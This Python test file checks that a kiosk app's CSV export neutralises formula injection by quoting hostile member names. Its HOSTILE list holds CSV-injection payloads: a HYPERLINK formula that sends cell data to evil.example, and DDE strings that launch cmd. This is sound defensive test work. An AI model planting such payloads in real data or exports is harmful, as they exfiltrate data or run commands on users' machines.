"""Spreadsheet formula injection: hostile member names come out of every CSV as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from kiosk.cli.export import export
from kiosk.store.database import Store
from kiosk.store.export import spreadsheet_safe
from kiosk.store.records import Member, Sample

#: Names a spreadsheet would run as formulas (OWASP "CSV Injection" examples).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
pytestmark = pytest.mark.config_data_dir
#: The store itself replaces control characters in names, so these reach a CSV as typed.
STORABLE = HOSTILE[:4]
START = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC).timestamp()


def test_formula_text_gets_a_quote_and_numbers_stay_numbers() -> None:
    assert [spreadsheet_safe(n) for n in HOSTILE] == ["'" + n for n in HOSTILE]
    assert spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe(-3) == -3
    assert spreadsheet_safe("Ada Lovelace") == "Ada Lovelace"
    assert spreadsheet_safe(None) is None


def test_backstep_export_neutralises_hostile_names_and_keeps_negative_leans(
    tmp_path: Path,
) -> None:
    data = tmp_path / "data"
    with Store(data / "backstep.sqlite3") as store:
        store.upsert_members(
            [Member(f"m{i}", name, dt.date(2030, 1, 1)) for i, name in enumerate(STORABLE)]
        )
        for i in range(len(STORABLE)):
            sid = store.start_session(f"m{i}", "starter", START + i * 600, "station-1")
            store.append_session_data(sid, [Sample(0.0, -2.5, -1.0, 80.0, 95.0, "upright")], [])
            store.finish_session(
                sid, "completed", START + i * 600 + 300, {"average_trunk_lean_deg": -2.5}
            )
    cfg = tmp_path / "backstep.toml"
    cfg.write_text(f'[storage]\ndata_dir = "{data}"\n')
    out = tmp_path / "x.csv"

    result = CliRunner().invoke(
        export, ["--config", str(cfg), "--format", "csv", "--samples", "--out", str(out)]
    )

    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert [r["member_name"] for r in rows] == ["'" + n for n in STORABLE]
    assert {r["mean_trunk_lean_deg"] for r in rows} == {"-2.5"}  # a number, no quote
    samples = list(csv.DictReader(io.StringIO(out.with_name("x.samples.csv").read_text())))
    assert {(r["trunk_lean_deg"], r["lateral_lean_deg"]) for r in samples} == {("-2.5", "-1.0")}
